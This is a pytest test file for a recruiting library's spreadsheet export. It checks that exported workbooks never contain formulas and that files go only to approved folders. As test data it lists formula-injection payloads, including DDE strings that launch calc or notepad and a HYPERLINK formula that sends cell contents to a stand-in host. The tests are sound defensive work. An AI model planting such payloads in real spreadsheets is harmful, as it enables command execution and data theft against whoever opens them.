"""Exports: no cell of a workbook is ever a formula, and none goes where it is forgotten.

Right values: OWASP's list of what begins a formula (= + - @ tab CR, and their full-width forms), the
DDE examples of published CSV injections, ECMA-376 (cell types, quotePrefix, _xHHHH_), and openpyxl,
which reads the finished file.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import recruitlib
from recruitlib.base.audit import append_entry, read_entries
from recruitlib.base.exports import (
    check_place,
    check_terms,
    clean_text,
    list_exports,
    render_workbook,
    write_export,
)

STEADY = settings(deadline=None, derandomize=True)
INJECTIONS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "@x", "=cmd",
    '=HYPERLINK("http://example.invalid?x="&A2,"click")', "＝1+1", "＋1", "－1", "＠x",
    '=DDE("cmd";"/C calc";"x")', "+cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0",
    '";=1+1', "'=1+1", "=IMPORTXML(A1,\"//a\")", "%0A=1", "|calc", "#N/A", "#REF!", "TRUE", "1E5",
    "0012", "8-1", "2026-04-01", "+81-90-0000-0000",
)  # fmt: skip
BEFORE = ("", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", " ", "\u2028", "\u202e")


def render(*texts: str) -> bytes:
    return render_workbook(pd.DataFrame({"氏名": list(texts)}), "受付簿", ["=1+1", "期限"])


def read_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content))["受付簿"]
    return [row[0] for row in sheet.iter_rows(min_row=2)]


def require_no_formula(content: bytes) -> None:
    """Require of the file itself that no cell has a formula, a number or a type other than text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in sheets:
            text = archive.read(name).decode()
            assert "<f>" not in text
            assert "<f " not in text
            assert "<v>" not in text
            types = re.findall(r'<c r="[A-Z]+[0-9]+" s="[0-9]+"( t="[A-Za-z]+")?', text)
            # An empty cell goes by the type of a number, which without a value it is not.
            assert set(types) <= {' t="inlineStr"', ' t="n"', ""}
        assert not [name for name in archive.namelist() if "external" in name.lower()]


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_that_begins_a_formula_becomes_one(before: str, text: str) -> None:
    content = render(before + text)
    require_no_formula(content)
    (cell,) = read_cells(content)
    assert cell.data_type == "s"
    assert cell.number_format == "@"
    assert cell.quotePrefix
    # The value itself stands, without a sign put before it.
    assert cell.value.strip() == text


def test_what_follows_a_line_break_or_a_control_character_stays_in_its_cell() -> None:
    texts = ["架空野\n=1+1", "a\x00b\x1fc\x7fd\x9fe", "a\tb\r\nc", "架\u202e空\u2066野"]
    content = render(*texts)
    require_no_formula(content)
    assert [cell.value for cell in read_cells(content)] == [
        "架空野 =1+1", "abcde", "a b c", "架空野",
    ]  # fmt: skip


def test_variants_rare_characters_and_spaces_stand_as_they_are() -> None:
    texts = [
        "辻\U000e0100󠄀",
        "𠮷野　家",
        "髙﨑",
        "e\u0301",
        "\ue000外字",
        "片町１－１",
        "",
        " x ",
        "葛\ufe00",
    ]
    assert [cell.value or "" for cell in read_cells(render(*texts))] == texts


@pytest.mark.parametrize("text", ["_x003D_1+1", "a_x000D_b", "_x005F_", "_X003D_1", "_x003_"])
def test_a_sign_written_by_its_number_is_not_turned_into_the_sign(text: str) -> None:
    # ECMA-376 22.9.2.19: _xHHHH_ is the sign of that number; _x005F_ is the underscore itself.
    written = clean_text(text)

    def read_as_a_spreadsheet(cell: str) -> str:
        return re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), cell)

    assert read_as_a_spreadsheet(written) == text


@given(st.lists(st.text(), min_size=1, max_size=5))
@settings(STEADY, max_examples=100)
def test_no_text_at_all_becomes_a_formula_or_breaks_the_file(texts: list[str]) -> None:
    content = render(*texts)
    require_no_formula(content)
    assert [cell.value or "" for cell in read_cells(content)] == [
        clean_text(text) for text in texts
    ]


def test_a_text_too_long_for_a_cell_is_cut_with_a_word() -> None:
    (cell,) = read_cells(render("𠮷" * 100_000))
    # Excel: 32,767 units of UTF-16 in a cell.
    assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767
    assert cell.value.endswith("（以下略）")


def test_an_empty_table_is_a_header_alone() -> None:
    content = render_workbook(pd.DataFrame({"氏名": []}, dtype="str"), "受付簿", [])
    assert read_cells(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content))["受付簿"]
    assert [cell.value for cell in sheet[1]] == ["氏名"]


def test_the_properties_name_nobody() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render("架空野　花子")))
    assert book.properties.creator == "recruitlib"
    for name in ("lastModifiedBy", "title", "subject", "description", "keywords", "category"):
        assert not getattr(book.properties, name)
    with zipfile.ZipFile(io.BytesIO(render("架空野　花子"))) as archive:
        for name in ("docProps/core.xml", "docProps/app.xml"):
            assert "架空野" not in archive.read(name).decode()


# ---- where, by whom, until when ----


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for name in (
        "runs/r8_1",
        "drills",
        "register/demonstration",
        "notebooks",
        "params/r8_1",
        "inputs",
    ):
        (tmp_path / name).mkdir(parents=True)
    return tmp_path


@pytest.mark.parametrize(
    "place",
    ["runs/a.xlsx", "runs/r8_1/a.xlsx", "drills/a.xlsx", "register/a.xlsx", "notebooks/a.xlsx",
     "register/demonstration/a.xlsx", "params/r8_1/a.xlsx", "inputs/../params/a.xlsx"],
)  # fmt: skip
def test_the_project_s_own_folders_are_no_place_for_a_workbook(root: Path, place: str) -> None:
    (problem,) = check_place(root / place, root, "drills", {})
    assert "フォルダの外" in problem


@pytest.mark.skipif(os.name != "posix", reason="Windows makes links for administrators only")
def test_the_package_s_folder_and_a_way_round_are_no_place_either(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert check_place(Path(recruitlib.__file__).parent / "a.xlsx", root, "runs", {})
    (root / "link").symlink_to(root / "runs", target_is_directory=True)
    assert check_place(root / "link/a.xlsx", root, "runs", {})
    monkeypatch.chdir(root / "runs")
    assert check_place(Path("a.xlsx"), root, "runs", {})
    monkeypatch.chdir(root)
    assert check_place(Path("a.xlsx"), root, "runs", {}) == []


@pytest.mark.parametrize("place", ["a.xlsx", "inputs/Register_R8-1.xlsx"])
def test_another_folder_is_a_place(root: Path, place: str) -> None:
    assert check_place(root / place, root, "runs", {}) == []


@pytest.mark.parametrize(
    "name", ["a.csv", "a.xlsm", "a", ".xlsx", "架空野花子.xlsx", "a b.xlsx", "a.b.xlsx", "-a.xlsx",
             "a" * 61 + ".xlsx"],
)  # fmt: skip
def test_a_name_that_could_be_somebody_s_or_no_workbook_is_refused(root: Path, name: str) -> None:
    (problem,) = check_place(root / name, root, "runs", {})
    assert "英数字" in problem
    assert "架空野" not in problem


def test_an_existing_file_a_used_name_and_a_missing_folder_are_refused(root: Path) -> None:
    (root / "a.xlsx").write_bytes(b"x")
    assert "上書きはしません" in check_place(root / "a.xlsx", root, "runs", {})[0]
    assert "一度書き出しています" in check_place(root / "b.xlsx", root, "runs", {"B.xlsx": {}})[0]
    assert "フォルダがありません" in check_place(root / "no/c.xlsx", root, "runs", {})[0]


@pytest.mark.parametrize("by", ["", " ", "　", "係" * 41, "係長\n", "係\x00長"])
def test_somebody_must_answer_for_an_export(by: str) -> None:
    assert check_terms("係長", "2026-06-30", date(2026, 5, 18), "2032-03-31") == []
    (problem,) = check_terms(by, "2026-06-30", date(2026, 5, 18), "2032-03-31")
    assert "--by" in problem


@pytest.mark.parametrize(
    ("due", "passes"),
    [("2026-05-17", False), ("2026-05-18", False), ("2026-05-19", True), ("2032-03-31", True),
     ("2032-04-01", False), ("2026-6-30", False), ("9999", False), ("", False)],
)  # fmt: skip
def test_the_due_date_lies_after_today_and_within_the_time_of_keeping(
    due: str, passes: bool
) -> None:
    assert (check_terms("係長", due, date(2026, 5, 18), "2032-03-31") == []) is passes


def test_an_export_is_logged_even_if_writing_it_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    append_entry(tmp_path, "01", "begun", files={})
    monkeypatch.setattr(
        "recruitlib.base.exports.write_atomically",
        lambda *_: (_ for _ in ()).throw(OSError("full")),
    )
    with pytest.raises(OSError, match="full"):
        write_export(tmp_path, tmp_path / "a.xlsx", b"x", kind="register", due="2026-06-30")
    assert read_entries(tmp_path)[-1]["event"] == "exported"
    assert list_exports(tmp_path) == {
        "a.xlsx": {"file": "a.xlsx", "kind": "register", "due": "2026-06-30"}
    }
